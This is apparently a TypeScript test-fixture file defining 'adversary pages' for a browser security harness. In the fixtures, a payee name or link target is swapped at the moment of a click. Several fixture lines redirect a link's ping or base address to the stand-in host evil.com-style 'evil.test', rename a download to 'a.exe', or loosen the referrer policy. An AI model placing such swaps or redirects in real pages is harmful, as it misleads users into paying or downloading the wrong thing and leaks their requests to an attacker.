import { type AdversaryPage, idOf } from '../adversary-page.ts';
import { at, BETWEEN } from '../moments.ts';
import { pageOf, setText } from './page-shapes.ts';

/** Documents beside, the next frame, and what a link sends. */
export const frameAndLinkPages: readonly AdversaryPage[] = [
  pageOf({
    name: 'payee in a frame beside',
    html: '<section id=box><p>Payee:</p><iframe id=f srcdoc="<b>Ada</b>" height=30></iframe><button id=act>Pay</button></section>',
    changes: {
      'another document': `$('#f').srcdoc = '<b>Mallory</b>'; adversary.note('a frame')`,
      'the words in it': `$('#f').contentDocument.body.textContent = 'Mallory'; adversary.note('words')`,
    },
  }),
  pageOf({
    name: 'the next frame',
    html: '<section id=box><p>Pay <b id=w>Ada</b></p><button id=act>Pay</button></section>',
    moments: [at('pointerover'), at('pointerdown')],
    changes: {
      'in the next frame': `requestAnimationFrame(() => { ${setText('#w', 'Mallory')} })`,
    },
  }),
  pageOf({
    name: 'link with ping and download',
    html: '<p id=box>Report <a id=act href=/a.pdf download=a.pdf ping=/p>Get</a></p>',
    moments: [BETWEEN, at('pointerdown'), at('mousedown'), at('focus')],
    changes: {
      'the ping': `$('#act').ping = 'http://evil.test/'`,
      'the file name': `$('#act').download = 'a.exe'`,
      'the address': `$('#act').href = '/b.pdf'`,
      'the window': `$('#act').target = 'x'`,
      'the base': `document.head.insertAdjacentHTML('beforeend', '<base href=http://evil.test/>'); adversary.note('the address')`,
      'the referrer policy': `$('#act').referrerPolicy = 'unsafe-url'; adversary.note('the policy')`,
    },
  }),
  pageOf({
    name: 'link in a feed',
    html: `<div>${['Ben', 'Ada'].map((who, n) => `<div class=post ${idOf(n, 'row')}><p ${idOf(n, 'w')}>${who} writes</p><a ${idOf(n, 'act')} href="/p/${n}">Follow</a></div>`).join('')}</div>`,
    about: ['#row'],
    changes: {
      'the person becomes another': setText('#w', 'Mallory writes'),
      'the address': `$('#act').href = '/p/9'`,
    },
  }),
];
